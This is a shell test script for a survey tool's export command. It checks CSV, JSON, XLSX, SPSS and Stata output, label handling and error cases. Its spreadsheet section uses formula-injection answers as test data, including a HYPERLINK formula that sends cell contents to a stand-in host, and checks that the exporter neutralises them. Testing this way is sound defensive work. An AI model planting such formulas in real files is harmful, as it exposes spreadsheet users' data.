# export: plain round-trips exactly (export, import elsewhere, export
# again); csv is UTF-8 with BOM for Excel with formulas neutralised and
# labels on request; json is one object per response with typed values;
# xlsx is checked by unzipping it and reading the sheet XML back value by
# value; sav and dta are read back with R haven when it is installed (the
# C test tests/unit/test_import_sav.c reads them back with ReadStat on
# every run).  Exports never hold dates, times, tokens or IPs.
. "$ROOT/tests/cli/lib.sh"
I="$FIX/import"
S="$Q/staff-opinion.csv"
M="$I/mini-form.csv"

fresh() {
    export GAPSURVEY_DB="$T/$1.db"
    rm -f "$GAPSURVEY_DB"*
    "$GS" init >/dev/null
    "$GS" form add "$2" >/dev/null
    "$GS" unit import "$Q/units-sample.csv" >/dev/null
}

# ---- plain round trip: simulated data, and texts with commas, quotes, line breaks
export GAPSURVEY_DB="$T/sim.db"
"$GS" init >/dev/null
"$GS" simulate --units 4 --staff 12 --seed 3 >/dev/null
run "$GS" export --form staff-opinion --format plain -o sim.csv
status "export plain" 0
has "says what it wrote" "$T/out" "sim.csv: "
has "... of which wave" "$T/out" "(wave 2026) written as plain"
fresh rt "$S"
run "$GS" import sim.csv --form staff-opinion
status "the export imports" 0
"$GS" export --form staff-opinion --format plain > sim2.csv
check "simulated data round-trips exactly" samerows sim.csv sim2.csv
fresh rt2 "$S"
"$GS" import "$I/staff-plain.csv" --form staff-opinion >/dev/null
"$GS" export --form staff-opinion -o back.plain --format plain >/dev/null
check "texts with commas, quotes and line breaks round-trip exactly" samerows back.plain "$I/staff-plain.csv"

# ---- a small form with every type, and answers that attack spreadsheets
fresh mini "$M"
cat > evil.csv <<'CSV'
unit,topics,years,trained,hours,score,note
U01,study care,3,yes,12,4.5,=HYPERLINK("http://x.example/?"&A1)
U02,,25,no,,-1.25,+1+1
U03,plan,,yes,0,,-2+3
U01,other,7,yes,3,2,@SUM(A1)
U02,care,8,no,,-3,fine
U03,study,9,yes,1,1,市委办公室，"引号"
CSV
"$GS" import evil.csv --form mini-multi >/dev/null
run "$GS" export --form mini-multi --format csv
status "export csv to stdout" 0
check "csv starts with a UTF-8 BOM" sh -c "head -c 3 '$T/out' | od -An -tx1 | grep -q 'ef bb bf'"
check "csv has CRLF line ends" sh -c "head -n 1 '$T/out' | od -c | grep -q '\\\\r'"
has "formula neutralised" "$T/out" "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\""
has "plus neutralised" "$T/out" "\"'+1+1\""
has "minus neutralised" "$T/out" "\"'-2+3\""
has "at neutralised" "$T/out" "\"'@SUM(A1)\""
has "a negative number stays a number" "$T/out" ",-1.25,"
# answers are trimmed when stored, but a tab or CR first would run too
sqlite3 "$GAPSURVEY_DB" "UPDATE answers SET text = char(9) || '=1+1' WHERE text = 'fine'"
run "$GS" export --form mini-multi --format csv
has "tab neutralised" "$T/out" "\"'	=1+1\""
has "CJK and quotes intact" "$T/out" "\"市委办公室，\"\"引号\"\"\""
run "$GS" --lang zh export --form mini-multi --format csv --labels
has "--labels: select_multiple as labels" "$T/out" "理论学习; 关心关爱"
has "--labels: select_one as label" "$T/out" ",是,"
run "$GS" --lang en export --form mini-multi --format csv --labels
has "--labels in English with --lang en" "$T/out" "Study; Care"

run "$GS" export --form mini-multi --format json
status "export json" 0
check "json parses, one object per response, typed values" python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
assert len(d) == 6, len(d)
r = [x for x in d if (x["note"] or "").startswith("=HYPERLINK")][0]
assert r["unit"] == "U01" and r["topics"] == ["study", "care"] and r["years"] == 3, r
assert r["score"] == 4.5 and r["trained"] == "yes", r
r = [x for x in d if x["score"] == -1.25][0]
assert r["hours"] is None and r["topics"] is None, r
assert any(x["note"] == "市委办公室，\"引号\"" for x in d), d
' "$T/out"
run "$GS" --lang zh export --form mini-multi --format json --labels
check "json --labels" python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
assert any(x["topics"] == ["理论学习", "关心关爱"] and x["trained"] == "是" for x in d), d
' "$T/out"

# ---- xlsx: unzip and read the sheets back value by value
fresh x "$S"
"$GS" import "$I/staff-plain.csv" --form staff-opinion >/dev/null
run "$GS" --lang zh export --form staff-opinion -o staff.xlsx
status "export xlsx (format from the extension)" 0
check "xlsx is a zip with a data and a codebook sheet" sh -c \
    "unzip -p staff.xlsx xl/workbook.xml | grep -q '<sheet name=\"data\".*<sheet name=\"codebook\"'"
check "data sheet header frozen" sh -c "unzip -p staff.xlsx xl/worksheets/sheet1.xml | grep -q 'ySplit=\"1\".*state=\"frozen\"'"
check "codebook header frozen" sh -c "unzip -p staff.xlsx xl/worksheets/sheet2.xml | grep -q 'state=\"frozen\"'"
check "data sheet holds the plain CSV's values, cell by cell" python3 -c '
import csv, sys, zipfile, re
import xml.etree.ElementTree as ET
ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
z = zipfile.ZipFile(sys.argv[1])
def sheet(n):
    rows = []
    for row in ET.fromstring(z.read("xl/worksheets/sheet%d.xml" % n)).iter("{%s}row" % ns["m"]):
        cells = {}
        for c in row.findall("m:c", ns):
            col = re.match(r"[A-Z]+", c.get("r")).group(0)
            k = 0
            for ch in col:
                k = k * 26 + ord(ch) - 64
            t = c.find("m:is/m:t", ns)
            v = c.find("m:v", ns)
            cells[k - 1] = t.text if t is not None else ("%g" % float(v.text))
        rows.append([cells.get(i, "") for i in range(max(cells) + 1 if cells else 0)])
    return rows
data = sheet(1)
plain = list(csv.reader(open(sys.argv[2], encoding="utf-8")))
assert len(data) == len(plain), (len(data), len(plain))
data = [a + [""] * (len(plain[0]) - len(a)) for a in data]
assert data[0] == plain[0] and sorted(data[1:]) == sorted(plain[1:]), (data, plain)
book = sheet(2)
assert book[0] == ["列名", "类型", "题目", "维度", "反向计分", "选项"], book[0]
po1 = [r for r in book if r[0] == "le5"][0]
assert po1[1] == "select_one agree5" and po1[3] == "learning" and po1[4] == "是", po1
assert po1[2].startswith("本单位的学习活动多是读文件") and "1=非常不同意" in po1[5], po1
' staff.xlsx "$I/staff-plain.csv"
check "CJK text intact in the sheet XML" sh -c "unzip -p staff.xlsx xl/worksheets/sheet1.xml | grep -q '第一行'"

# ---- sav and dta
fresh stat "$M"
"$GS" import "$I/mini-plain.csv" --form mini-multi >/dev/null
run "$GS" --lang zh export --form mini-multi -o mini.sav
status "export sav (format from the extension)" 0
run "$GS" --lang zh export --form mini-multi --format stata -o mini.dta
status "export dta" 0
check "sav starts with the SPSS magic" sh -c "head -c 4 mini.sav | grep -q '\$FL2'"
if command -v Rscript >/dev/null 2>&1 && Rscript -e 'library(haven)' >/dev/null 2>&1; then
    run Rscript -e '
library(haven)
# rows of one unit come in random order (random ids): put them back in
# the order of the file imported, known by their years (all different)
d <- read_sav("mini.sav", user_na = TRUE)
d <- d[match(c(3, 10, 25, 0, -9, 50), as.numeric(d$years)), ]
stopifnot(identical(names(d), c("unit", "topics_study", "topics_plan", "topics_care",
                                "topics_other", "years", "trained", "hours", "score", "note")))
stopifnot(identical(as.vector(d$unit), c("U01", "U01", "U02", "U02", "U03", "U03")))
stopifnot(identical(as.numeric(d$topics_study), c(1, 0, -9, 1, 0, 0)))
stopifnot(identical(as.numeric(d$years), c(3, 10, 25, 0, -9, 50)))
stopifnot(identical(as.numeric(d$trained), c(1, 2, 1, 2, 1, -9)))
# hours is asked only when trained = yes: -8 not applicable, else -9
stopifnot(identical(as.numeric(d$hours), c(12, -8, 0, -8, 40, -8)))
stopifnot(identical(as.numeric(d$score), c(4.5, 3, -1.25, -9, 5, 2.75)))
stopifnot(identical(d$note[3], "逗号, \"引号\""))
stopifnot(identical(attr(d$trained, "label"), "是否参加过培训"))
stopifnot(identical(attr(d$topics_care, "label"), "您参加过哪些活动: 关心关爱"))
l <- attr(d$trained, "labels"); stopifnot(l[["是"]] == 1, l[["否"]] == 2, l[["未作答"]] == -9)
stopifnot(identical(attr(d$hours, "na_values"), c(-9, -8)))
n <- read_sav("mini.sav")
n <- n[match(c(3, 10, 25, 0, NA, 50), as.numeric(n$years)), ]
stopifnot(is.na(n$hours[2]), is.na(n$years[5]), n$hours[1] == 12)
s <- read_dta("mini.dta")
s <- s[match(c(3, 10, 25, 0, NA, 50), as.numeric(s$years)), ]
stopifnot(identical(as.numeric(s$years[1:4]), c(3, 10, 25, 0)), is.na(s$years[5]))
stopifnot(identical(na_tag(s$hours), c(NA, "b", NA, "b", NA, "b")))
stopifnot(identical(na_tag(s$years)[5], "a"))
stopifnot(identical(attr(s$trained, "label"), "是否参加过培训"))
cat("haven ok\n")
'
    has "R haven reads the sav and dta back with the same values and labels" "$T/out" "haven ok"
    [ "$RC" -eq 0 ] || sed 's/^/# /' "$T/err" | head -n 20
else
    ok "# skip: R haven is not installed (checked by hand: see tests/fixtures/export/README.md)"
fi

if command -v pspp >/dev/null 2>&1; then
    printf "GET FILE='mini.sav'.\nDESCRIPTIVES VARIABLES=years hours score.\nFREQUENCIES VARIABLES=trained.\n" > p.sps
    rm -f p.csv
    LANG=C.UTF-8 pspp -O format=csv -o p.csv p.sps >/dev/null 2>&1
    has "PSPP: -9 and -8 are missing (hours: 3 valid)" p.csv "培训学时,3,17.33,20.53,0,40"
    has "PSPP: a negative score is a value" p.csv "自评分,5,2.80,2.46,-1.25,5.00"
    has "PSPP: value labels" p.csv "Valid,是,3,50.0%"
    has "PSPP: the missing value's label" p.csv "Missing,未作答,1,16.7%"
else
    ok "# skip: PSPP is not installed (checked by hand: see tests/fixtures/export/README.md)"
fi

# ---- anonymity: no dates, times, tokens or IPs in any export
for f in csv json plain; do
    "$GS" export --form mini-multi --format $f > "any.$f"
done
check "no date in csv, json or plain" sh -c "! grep -q '20[0-9][0-9]-[01][0-9]-' any.csv any.json any.plain"

# ---- choosing the wave
export GAPSURVEY_DB="$T/waves.db"
"$GS" init >/dev/null
"$GS" simulate --units 3 --staff 6 --seed 1 --wave 2025 >/dev/null
"$GS" simulate --units 3 --staff 6 --seed 2 --wave 2026 >/dev/null
n25=$(sqlite3 "$GAPSURVEY_DB" "SELECT count(*) FROM responses r JOIN waves w ON w.id = r.wave JOIN forms f ON f.id = r.form WHERE w.name = '2025' AND f.form_id = 'staff-opinion'")
run "$GS" export --form staff-opinion --wave 2025 --format plain
same "--wave picks the wave" "$(($(wc -l < "$T/out") - 1))" "$n25"
run "$GS" export --form staff-opinion --format json -o w.json
has "default: the newest wave" "$T/out" "(wave 2026)"

# ---- mistakes
run "$GS" export --format csv
status "no --form" 2
run "$GS" export --form staff-opinion --format spss2
status "unknown format" 2
has "lists the formats" "$T/err" "--format takes plain, csv, json, sav, dta or xlsx"
run "$GS" export --form staff-opinion
status "no format and no -o" 2
run "$GS" export --form staff-opinion --format plain --labels
status "--labels with plain" 2
run "$GS" export --form nope --format csv
status "unknown form" 1
has "says so" "$T/err" "no form 'nope'"
run "$GS" export --form staff-opinion --wave 1999 --format csv
status "unknown wave" 1
run "$GS" export --form five-type-self --format csv -o "$T/no/such/dir/x.csv"
status "unwritable output" 1
check "leaves no file" test ! -e "$T/no/such/dir/x.csv"
"$GS" form add "$M" >/dev/null
run "$GS" export --form mini-multi --format csv
status "a form without responses" 1
has "says so" "$T/err" "no responses to mini-multi yet"
if command -v script >/dev/null 2>&1; then
    script -qc "'$GS' export --form staff-opinion --format sav" /dev/null > tty.txt 2>&1
    has "binary formats are not written to a terminal" tty.txt "sav is a binary format; write it to a file with -o FILE"
else
    ok "# skip: no script(1) for a terminal"
fi
